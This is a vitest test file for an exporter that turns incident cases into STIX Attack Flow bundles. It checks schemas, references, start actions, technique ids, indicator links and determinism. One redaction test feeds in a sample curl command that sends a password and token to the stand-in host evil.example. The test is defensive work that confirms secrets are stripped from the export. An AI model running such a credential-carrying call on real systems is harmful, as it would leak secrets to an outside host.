import { beforeAll, describe, expect, it } from 'vitest';
import type { Case } from '../../../../src/extension/core/model/case.ts';
import { toAttackFlow } from '../../../../src/extension/core/report/export/attackFlowStix.ts';
import { storefrontCase } from '../../../fixtures/cases/storefront.ts';
import { hostile } from '../hostile.ts';
import { everyCase, type NamedCase } from './everyCase.ts';
import { infected } from './infected.ts';
import { absent, type Check, exampleBundle, stixCheck } from './stixSchemas.ts';

type Loose = { readonly type: string; readonly id: string } & Record<string, unknown>;

let cases: readonly NamedCase[];
beforeAll(async () => {
  cases = await everyCase();
}, 120_000);

function objectsOf(of: Case): readonly Loose[] {
  return JSON.parse(toAttackFlow(of)).objects;
}

function ofType(objects: readonly Loose[], type: string): readonly Loose[] {
  return objects.filter((one) => one.type === type);
}

const strings = (value: unknown): readonly string[] =>
  Array.isArray(value) ? value.map(String) : value === undefined ? [] : [String(value)];

/** Every id that an object points to. */
function referencesOf(one: Loose): readonly string[] {
  return Object.entries(one).flatMap(([key, value]) => (/_refs?$/.test(key) ? strings(value) : []));
}

/** What can be reached from the flow's starts along effects and conditions. */
function reached(objects: readonly Loose[]): ReadonlySet<string> {
  const byId = new Map(objects.map((one) => [one.id, one]));
  const found = new Set<string>();
  const open = strings(ofType(objects, 'attack-flow')[0]?.['start_refs']).slice();
  for (let id = open.pop(); id !== undefined; id = open.pop()) {
    if (found.has(id)) continue;
    found.add(id);
    const one = byId.get(id);
    open.push(...strings(one?.['effect_refs']), ...strings(one?.['on_true_refs']));
  }
  return found;
}

describe.skipIf(absent)(absent ? 'SKIPPED: ../shared/data/stix is absent, no bundle was validated' : 'STIX bundle, by its schemas', () => {
  let check: Check;
  beforeAll(() => {
    check = stixCheck();
  });

  it('[K-08] are validated by schemas that take the published example and refuse a broken object', () => {
    expect(exampleBundle().objects.flatMap(check)).toEqual([]);
    const [first] = ofType(objectsOf(storefrontCase), 'attack-action');
    expect(check({ ...first!, execution_start: 'yesterday' } as Loose)).not.toEqual([]);
    expect(check({ ...first!, name: 3 } as Loose)).not.toEqual([]);
    expect(check({ ...first!, effect_refs: [] } as Loose)).not.toEqual([]);
  });

  it('[K-08] holds nothing but valid objects, for every case', () => {
    expect(cases.length).toBeGreaterThanOrEqual(27);
    for (const { name, of } of cases) expect(objectsOf(of).flatMap(check), name).toEqual([]);
  });

  it('[K-08] [K-07] stays valid when all data is hostile', () => {
    for (const value of hostile) expect(objectsOf(infected(storefrontCase, value)).flatMap(check), value.slice(0, 60)).toEqual([]);
  }, 60_000);
});

describe('STIX bundle', () => {
  it('[K-08] has one object for each step, boundary and link of the chain', () => {
    for (const { name, of } of cases.filter((one) => one.of.chain.steps.length > 0)) {
      const objects = objectsOf(of);
      const { steps, boundaries, links } = of.chain;
      const inferred = links.filter((link) => link.inferred);
      expect(ofType(objects, 'attack-action'), name).toHaveLength(steps.length);
      expect(ofType(objects, 'attack-asset'), name).toHaveLength(boundaries.length);
      expect(ofType(objects, 'attack-condition'), name).toHaveLength(inferred.length);
      for (const step of steps) {
        const action = ofType(objects, 'attack-action').find(
          (one) => String(one['description']).startsWith(`${step.id}:`) || String(one['description']).startsWith(`${step.id},`),
        );
        expect(action?.['execution_start'], step.id).toBe(new Date(step.at).toISOString());
        expect(strings(action?.['effect_refs']), step.id).toHaveLength(links.filter(({ from }) => from === step.id).length);
        for (const id of step.cites) expect(action?.['description']).toContain(`[${id}]`);
      }
    }
  });

  it('[K-08] points only to what it holds, once, and every action is reached from the starts', () => {
    for (const { name, of } of cases) {
      const objects = objectsOf(of);
      const ids = objects.map(({ id }) => id);
      expect(new Set(ids).size, name).toBe(ids.length);
      expect(
        objects.flatMap(referencesOf).filter((id) => !ids.includes(id)),
        name,
      ).toEqual([]);
      const missed = [...ofType(objects, 'attack-action'), ...ofType(objects, 'attack-condition')].filter(
        ({ id }) => !reached(objects).has(id),
      );
      expect(missed, name).toEqual([]);
    }
  });

  it('[K-08] starts at the way in and where nothing led to, and nowhere else', () => {
    for (const { name, of } of cases.filter((one) => one.of.chain.steps.length > 0)) {
      const objects = objectsOf(of);
      const starts = strings(ofType(objects, 'attack-flow')[0]?.['start_refs']);
      const effects = new Set(objects.flatMap((one) => [...strings(one['effect_refs']), ...strings(one['on_true_refs'])]));
      const entry = ofType(objects, 'attack-action').find((one) => String(one['description']).includes(', way in:'));
      expect(
        starts.filter((id) => effects.has(id) && id !== entry?.id),
        name,
      ).toEqual([]);
      if (entry !== undefined) expect(starts[0], name).toBe(entry.id);
    }
  });

  it('[K-08] begins with the way in, also where it is not the first that happened or something led to it', () => {
    const steps = storefrontCase.chain.steps
      .slice(0, 3)
      .map((step, index) => ({ ...step, role: index === 1 ? ('entry' as const) : ('step' as const) }));
    const { reason } = storefrontCase.chain.links[0]!;
    const link = { from: 'S1', to: 'S2', reason, inferred: false };
    for (const links of [[], [link]]) {
      const objects = objectsOf({ ...storefrontCase, chain: { ...storefrontCase.chain, steps, links } });
      const starts = strings(ofType(objects, 'attack-flow')[0]?.['start_refs']);
      const told = starts.map((id) => String(objects.find((one) => one.id === id)?.['description']).slice(0, 2));
      expect(told).toEqual(['S2', 'S1', 'S3']);
    }
  });

  it('[K-08] has the trigger as its one action where the case tells no step', () => {
    const bare = cases.find(({ name }) => name === 'bare group')!.of;
    const objects = objectsOf(bare);
    const [action, ...more] = ofType(objects, 'attack-action');
    expect(more).toEqual([]);
    expect(ofType(objects, 'attack-flow')[0]?.['start_refs']).toEqual([action?.id]);
    expect(action?.['description']).toBe(bare.trigger.title);
  });

  it('[K-08] says that an inferred link is inferred, and why', () => {
    const [condition] = ofType(objectsOf(storefrontCase), 'attack-condition');
    expect(condition?.['description']).toBe('Inferred, not proven: The shell is a child of the process that took the request [E4].');
  });

  it('[K-08] names the technique where the data does, and invents no reference to it', () => {
    const actions = ofType(objectsOf(storefrontCase), 'attack-action');
    expect(actions.map((one) => one['technique_id']).filter((one) => one !== undefined)).toEqual(['T1059.004']);
    expect(actions.some((one) => 'technique_ref' in one || 'tactic_ref' in one || 'confidence' in one)).toBe(false);
    const told = { ...storefrontCase.chain.steps[4]!, technique: 'T1098.001' };
    const chain = { ...storefrontCase.chain, steps: [told] };
    expect(ofType(objectsOf({ ...storefrontCase, chain }), 'attack-action')[0]?.['technique_id']).toBe('T1098.001');
  });

  it('[X-14] ties every indicator to the actions that name it, with the ids that everybody gives to it', () => {
    const objects = objectsOf(storefrontCase);
    const address = objects.find((one) => one['value'] === '198.51.100.23')!;
    const tied = ofType(objects, 'relationship').filter((one) => one['source_ref'] === address.id);
    const names = tied.map((one) => String(objects.find(({ id }) => id === one['target_ref'])?.['description']).slice(0, 2));
    expect(names).toEqual(['S1', 'S2']);
    // The specification's own example of a deterministic id.
    const example = { ...storefrontCase, summary: [], chain: withAddress('198.51.100.3') };
    expect(objectsOf(example).map(({ id }) => id)).toContain('ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4');
  });

  it('[H-07] holds the event id whole', () => {
    const [flow] = ofType(objectsOf(storefrontCase), 'attack-flow');
    expect(flow?.['external_references']).toEqual([expect.objectContaining({ external_id: storefrontCase.trigger.eventId })]);
  });

  it('[C-06] marks the sample tenant', () => {
    const [flow] = ofType(objectsOf(storefrontCase), 'attack-flow');
    expect(flow?.['name']).toMatch(/^Sample: /);
    expect(flow?.['labels']).toContain('sample');
  });

  it('[K-08] is the same every time, with ids of its own for every run', () => {
    expect(toAttackFlow(structuredClone(storefrontCase))).toBe(toAttackFlow(storefrontCase));
    const again = objectsOf({ ...storefrontCase, startedAt: '2026-06-10T10:41:00.000Z' });
    const ids = new Set(ofType(objectsOf(storefrontCase), 'attack-action').map(({ id }) => id));
    expect(again.filter(({ id }) => ids.has(id))).toEqual([]);
  });

  it('[K-07] [K-11] carries no control character, half character or secret', () => {
    for (const value of [...hostile, 'curl http://root:hunter2@evil.example/x?token=s3cr3tvalue --password=hunter2']) {
      const text = toAttackFlow(infected(storefrontCase, value));
      expect(text, value.slice(0, 60)).not.toMatch(/\\u00[01]|\\ud[89a-f]|hunter2|s3cr3tvalue/i);
    }
  }, 60_000);
});

function withAddress(value: string): Case['chain'] {
  const [first] = storefrontCase.chain.steps;
  const action = [{ kind: 'indicator', text: value }] as const;
  return { ...storefrontCase.chain, steps: [{ ...first!, action }] };
}
